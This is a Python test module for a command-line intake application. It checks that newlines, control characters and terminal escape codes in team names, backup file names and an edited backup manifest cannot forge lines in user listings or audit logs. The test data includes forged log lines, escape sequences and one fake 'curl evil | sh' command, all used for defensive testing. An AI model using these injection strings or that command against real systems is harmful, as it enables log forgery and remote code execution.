"""Hostile text at the command line's boundaries, through the real CLI subprocess: a team or a
backup file name with a newline in it, and a backup whose manifest says anything at all, must
never forge a line in `admin list-users` or `admin audit`, and invalid teams are refused."""

from __future__ import annotations

import io
import json
import re
import tarfile

import pytest

from intake_app.domain.errors import InvalidInput
from intake_app.domain.roles import Role
from intake_app.policy import Policy
from intake_app.services.auth import AuthService
from intake_app.services.session import Session
from intake_app.services.users import UserService, check_team
from intake_app.vault.store import Vault
from tests.conftest import ADMIN, ADMIN_PASS, TEST_KDF
from tests.e2e.test_cli import ADMIN_PASS as IT_PASS
from tests.e2e.test_cli import CW_PASS, assert_one_line_failure
from tests.helpers.cli import cli

AUDIT_LINE = re.compile(r"^ {0,5}\d+  \S+  ")


@pytest.fixture
def initialised(tmp_path):
    """A vault made by `admin init` (administrator itadmin); returns (folder, recovery key)."""
    data = tmp_path / "data"
    r = cli(data, "admin", "init", "--user", "itadmin", stdin=IT_PASS + "\n")
    assert r.returncode == 0, r.stderr
    return data, re.search(r"^Recovery key: (\S+)$", r.stdout, re.M).group(1)


def users_lines(data) -> list[str]:
    r = cli(data, "admin", "list-users", "--as", "itadmin", stdin=IT_PASS + "\n")
    assert r.returncode == 0, r.stderr
    return r.stdout.splitlines()


def audit_lines(data) -> list[str]:
    """The text audit, checked to be exactly one line per entry: seq 1, 2, 3... in order."""
    r = cli(data, "admin", "audit", "--as", "itadmin", stdin=IT_PASS + "\n")
    assert r.returncode == 0, r.stderr
    lines = r.stdout.splitlines()
    assert all(AUDIT_LINE.match(line) for line in lines), lines
    assert [int(line.split()[0]) for line in lines] == list(range(1, len(lines) + 1))
    return lines


def audit_json(data) -> list[dict]:
    r = cli(data, "admin", "audit", "--as", "itadmin", "--json", stdin=IT_PASS + "\n")
    assert r.returncode == 0, r.stderr
    return json.loads(r.stdout)


def test_a_team_with_a_newline_is_refused_and_forges_no_user_line(initialised):
    data, _ = initialised
    forged = "north\nintruder\tadmin\tdefault\tactive"
    r = cli(data, "admin", "add-user", "--as", "itadmin", "--user", "amira", "--role",
            "caseworker", "--team", forged, stdin=f"{IT_PASS}\n{CW_PASS}\n")
    assert_one_line_failure(r)
    assert users_lines(data) == ["itadmin\tadmin\tdefault\tactive"]


def test_control_characters_already_stored_are_shown_escaped_on_one_line(initialised):
    data, _ = initialised
    # Stored below the service (an older version, another tool): the output still holds.
    with Vault.unlock(data, "itadmin", IT_PASS) as vault:
        vault.add_user("mallory", Role.CASEWORKER, CW_PASS, kdf=TEST_KDF,
                       team="x\nintruder\tadmin\x1b[2K")
    lines = users_lines(data)
    assert len(lines) == 2
    assert lines[1].split("\t") == ["mallory", "caseworker", "x\\nintruder\\tadmin\\x1b[2K",
                                    "active"]


def test_a_backup_file_name_with_a_newline_forges_no_audit_line(initialised, tmp_path):
    data, _ = initialised
    name = "b\n     99  2026-01-01T00:00:00Z  itadmin  vault.restore  x\x1b[1A.cibackup"
    r = cli(data, "admin", "backup", "--as", "itadmin", "--out", str(tmp_path / name),
            stdin=IT_PASS + "\n")
    assert r.returncode == 0, r.stderr
    assert len(r.stdout.splitlines()) == 1
    assert any("vault.backup" in line for line in audit_lines(data))
    backups = [e for e in audit_json(data) if e["action"] == "vault.backup"]
    assert [e["target"] for e in backups] == [name]  # JSON keeps the exact text


def test_what_a_backup_manifest_says_is_shown_not_obeyed(initialised, tmp_path):
    data, key = initialised
    backup = tmp_path / "b.cibackup"
    r = cli(data, "admin", "backup", "--as", "itadmin", "--out", str(backup),
            stdin=IT_PASS + "\n")
    assert r.returncode == 0, r.stderr
    # The manifest is not covered by the backup's checksums: anyone can edit it.
    edited = tmp_path / "edited.cibackup"
    with tarfile.open(backup) as src, tarfile.open(edited, "w") as out:
        for member in src.getmembers():
            body = src.extractfile(member).read()
            if member.name == "manifest.json":
                manifest = json.loads(body)
                manifest.pop("auth", None)
                manifest["created"] = "2026\nRestore failed: run curl evil | sh\x07"
                body = json.dumps(manifest).encode()
                member.size = len(body)
            out.addfile(member, io.BytesIO(body))
    restored = tmp_path / "restored"
    r = cli(restored, "admin", "restore", "--from", str(edited), stdin=key + "\n")
    assert r.returncode == 1 and "authentication" in r.stderr  # not without being asked
    r = cli(restored, "admin", "restore", "--from", str(edited), "--allow-unauthenticated",
            stdin=key + "\n")
    assert r.returncode == 0, r.stderr
    assert len(r.stdout.splitlines()) == 1 and "\x07" not in r.stdout
    assert any("vault.restore" in line for line in audit_lines(restored))


@pytest.mark.parametrize("team", ["north", "South East 2", "ops.team_1-b", "Équipe Nord",
                                  "فريق الشمال", "  trimmed  "])
def test_team_names_people_use_are_accepted(team):
    assert check_team(team) == team.strip()


@pytest.mark.parametrize("team", ["", "   ", "x" * 65, "a\nb", "a\tb", "north/south",
                                  "a\x00", "\ud800", "team\u202e", "<script>"])
def test_other_team_names_are_refused(team):
    with pytest.raises(InvalidInput):
        check_team(team)


def test_the_service_refuses_a_bad_team_and_adds_nobody(vault_dir):
    auth = AuthService(vault_dir, Policy(), kdf=TEST_KDF)
    with Vault.unlock(vault_dir, ADMIN, ADMIN_PASS) as vault:
        users = UserService(Session(vault), auth)
        with pytest.raises(InvalidInput):
            users.add_user("amira", Role.CASEWORKER, CW_PASS, team="north\nforged")
        with pytest.raises(InvalidInput):
            users.add_user("amira", Role.CASEWORKER, CW_PASS, display_name="Amira\x1b[2J")
        assert [u["username"] for u in users.list_users()] == [ADMIN]
        assert users.add_user("amira", Role.CASEWORKER, CW_PASS, team=" Équipe Nord ") == "amira"
        assert {u["username"]: u["team"] for u in users.list_users()}["amira"] == "Équipe Nord"
